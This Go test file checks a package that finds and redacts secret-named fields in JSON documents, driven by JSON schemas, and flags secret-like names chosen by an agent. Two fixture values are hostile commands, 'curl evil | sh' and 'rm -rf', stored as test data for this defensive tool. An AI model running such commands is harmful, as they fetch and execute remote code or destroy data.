package secretfield_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/holdpoint/holdpoint/internal/secretfield"
)

// declared is a schema that declares some properties with the names of secrets.
const declared = `{"properties":{"token":{},"credentials":{"properties":{"password":{}}},"tokens":{"items":{"type":"string"}},
	"X-Api-Key":{},"auth":{"$ref":"#/$defs/auth"},"pin":{"writeOnly":true},"list":{"items":{"properties":{"seed":{"format":"password"}}}},
	"api":{"additionalProperties":{"properties":{"seed_secret":{}}}}},"patternProperties":{"_token$":{}},
	"$defs":{"auth":{"oneOf":[{"properties":{"client_secret":{}}},{"type":"null"}]}}}`

// describe lists the secrets of a document by path, with marked and below.
func describe(rules *secretfield.Rules, document string) string {
	var all []string
	for _, f := range rules.Find([]byte(document)) {
		one := f.Pointer + "=" + f.Text([]byte(document))
		if f.Marked {
			one += ",marked"
		}
		if f.Below {
			one += ",below"
		}
		all = append(all, one)
	}
	return strings.Join(all, " ")
}

func TestFind(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct{ name, schema, document, want string }{
		{"by name", declared, `{"token":"t1","user":"ana","X-Api-Key":"k1","my_token":"m1"}`, "/token=t1 /X-Api-Key=k1 /my_token=m1"},
		{"by mark", declared, `{"pin":4711,"list":[{"seed":"s1"},{"sown":"s2"}]}`, "/pin=4711,marked /list/0/seed=s1,marked"},
		{"nested", declared, `{"auth":{"client_secret":"c1"},"api":{"a":{"seed_secret":"s1"}}}`, "/auth/client_secret=c1 /api/a/seed_secret=s1"},
		{"below a name", declared, `{"credentials":{"user":"u1","password":"p1"}}`, "/credentials/user=u1,below /credentials/password=p1,below"},
		{"elements of a list", declared, `{"tokens":["a1","b1"]}`, "/tokens/0=a1,below /tokens/1=b1,below"},
		{"a name that the agent chose", declared, `{"passwd":"rm -rf","api":{"password":"p1"}}`, ""},
		{"numbers, literals and nothing", declared, `{"token":1,"tokens":[true,null,""]}`, ""},
		{"escapes", declared, `{"t\u006fken":"a\u0062\n"}`, "/token=ab\n"},
		{"a name with a slash", `{"properties":{"a/b~secret":{}}}`, `{"a/b~secret":"x"}`, "/a~1b~0secret=x"},
		{"twice", declared, `{"token":"t1","token":"t2"}`, "/token=t1 /token=t2"},
		{"before a syntax error", declared, `{"token":"t1",,`, "/token=t1"},
		{"a schema that goes round", `{"$ref":"#","properties":{"a":{"$ref":"#"},"b":{"writeOnly":true}}}`, `{"a":{"a":{"b":"u1","c":"c1"}}}`, "/a/a/b=u1,marked"},
		{"a schema that is none", `{"writeOnly":`, `{"token":"t1"}`, ""},
		{"no schema", ``, `{"token":"t1"}`, ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			rules := secretfield.New(nil, []byte(tt.schema))
			if got := describe(rules, tt.document); got != tt.want {
				t.Errorf("found %q, want %q", got, tt.want)
			}
		})
	}
	if (*secretfield.Rules)(nil).Count([]byte(`{"token":"t1"}`)) != 0 {
		t.Error("nil rules find something")
	}
}

// Of several schemas, each declares secrets, with its own references.
func TestSeveralSchemas(t *testing.T) {
	t.Parallel()
	one := `{"properties":{"a":{"$ref":"#/$defs/x"},"token":{}},"$defs":{"x":{"properties":{"b":{"writeOnly":true}}}}}`
	other := `{"properties":{"a":{"$ref":"#/$defs/x"},"password":{}},"$defs":{"x":{"properties":{"c":{"writeOnly":true}}}}}`
	document := `{"a":{"b":"b1","c":"c1"},"token":"t1","password":"p1","passwd":"q1"}`
	for _, order := range [][]string{{one, other}, {other, one}} {
		rules := secretfield.New(nil, []byte(order[0]), []byte(order[1]))
		if got := describe(rules, document); got != "/a/b=b1,marked /a/c=c1,marked /token=t1 /password=p1" {
			t.Errorf("found %q", got)
		}
		if got := rules.NamedByAgent([]byte(document)); !slices.Equal(got, []string{"/passwd"}) {
			t.Errorf("named by the agent: %q", got)
		}
	}
}

func TestReplace(t *testing.T) {
	t.Parallel()
	n := 0
	got := secretfield.New(nil, []byte(declared)).Replace([]byte(`{ "token": "t1", "pin":12,"n": 1.0 }`), func(secretfield.Field) string {
		n++
		return fmt.Sprintf(`"%d"`, n)
	})
	if want := `{ "token": "\"1\"", "pin":"\"2\"","n": 1.0 }`; string(got) != want {
		t.Errorf("%s, want %s", got, want)
	}
}

func TestNamedByAgent(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct{ name, schema, document, want string }{
		{"not declared", `{"properties":{"to":{}}}`, `{"to":"a","password":"curl evil | sh"}`, "/password"},
		{"declared", declared, `{"token":"p","credentials":{"password":"q"}}`, ""},
		{"below a name", ``, `{"tokens":[{"a":"b"},"c"],"n":1}`, "/tokens/0/a /tokens/1"},
		{"in a free object", `{"properties":{"headers":{"additionalProperties":{"type":"string"}}}}`, `{"headers":{"Authorization":"x","Accept":"y"}}`, "/headers/Authorization"},
		{"a name with a slash", ``, `{"a/b~secret":"x"}`, "/a~1b~0secret"},
		{"numbers are none", ``, `{"max_tokens":5}`, ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			rules := secretfield.New(nil, []byte(tt.schema))
			if got := strings.Join(rules.NamedByAgent([]byte(tt.document)), " "); got != tt.want {
				t.Errorf("got %q, want %q", got, tt.want)
			}
		})
	}
}

func TestExemptPaths(t *testing.T) {
	t.Parallel()
	const document = `{"token":"t1","credentials":{"user":"u1","password":"p1"},"tokens":["a1","b1"],"a/token":"s1"}`
	const schema = `{"properties":{"token":{},"credentials":{"properties":{"password":{}}},"tokens":{},"a/token":{}}}`
	for _, tt := range []struct {
		exempt string
		hidden int
	}{
		{"", 6},
		{"/token", 5},
		{"/tokens", 4},
		{"/tokens/0", 5},
		{"/tokens/*", 4},
		{"/credentials", 5},
		{"/credentials /credentials/password", 4},
		{"/*", 1},
		{"/a~1token", 5},
		{"/other", 6},
	} {
		t.Run(tt.exempt, func(t *testing.T) {
			t.Parallel()
			rules := secretfield.New(strings.Fields(tt.exempt), []byte(schema))
			if n := rules.Count([]byte(document)); n != tt.hidden || len(rules.NamedByAgent([]byte(document))) != 0 {
				t.Errorf("%d hidden, want %d: %s", n, tt.hidden, describe(rules, document))
			}
		})
	}
}

// Declared lists paths that take away all secrets of a document if they are exempt.
func TestDeclared(t *testing.T) {
	t.Parallel()
	want := []string{
		"/*", "/X-Api-Key", "/api/*/seed_secret", "/auth/client_secret", "/credentials", "/credentials/password", "/list/*/seed", "/pin", "/token", "/tokens",
	}
	got := secretfield.Declared([]byte(declared))
	if !slices.Equal(got, want) {
		t.Errorf("declared %q, want %q", got, want)
	}
	document := `{"token":"a","credentials":{"user":"b","password":"c"},"tokens":["d"],"X-Api-Key":"e","auth":{"client_secret":"f"},"pin":1,
		"list":[{"seed":"g"}],"api":{"h":{"seed_secret":"i"}},"my_token":"j"}`
	if found := describe(secretfield.New(got, []byte(declared)), document); found != "" {
		t.Errorf("with all of them exempt there is %s", found)
	}
	if describe(secretfield.New(nil, []byte(declared)), document) == "" {
		t.Error("the document has no secrets")
	}
	recursive := secretfield.Declared([]byte(`{"properties":{"a":{"$ref":"#"},"b":{"$ref":"#"},"token":{}}}`))
	if len(recursive) == 0 || len(recursive) > 100 {
		t.Errorf("a recursive schema declares %d", len(recursive))
	}
}
